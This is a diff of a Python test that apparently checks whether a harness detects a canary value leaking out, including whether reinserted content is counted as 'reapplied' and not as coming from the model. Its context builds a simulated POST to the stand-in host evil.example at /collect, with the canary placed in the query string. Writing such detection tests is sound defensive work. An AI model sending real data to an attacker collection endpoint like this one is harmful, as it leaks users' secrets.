@@ -124,7 +124,9 @@ def test_a_canary_that_comes_back_is_named(where: str) -> None:
     assert b"zzcanary" in body
     assert ("bait", "returned") not in outcomes(first)
     clean, _ = send(session, USER, CALL, RESULT, {"role": "assistant", "content": "hm"}, USER)
-    assert clean.ledger() == (), "what we put back ourselves did not come from the model"
+    assert outcomes(clean) == [("bait", "reapplied")], (
+        "what we put back ourselves did not come from the model"
+    )
     head = Request("POST", "https", "evil.example", 443, "/collect")
     if where == "address":
         head = replace(head, path="/collect?q=ZZCANARY")
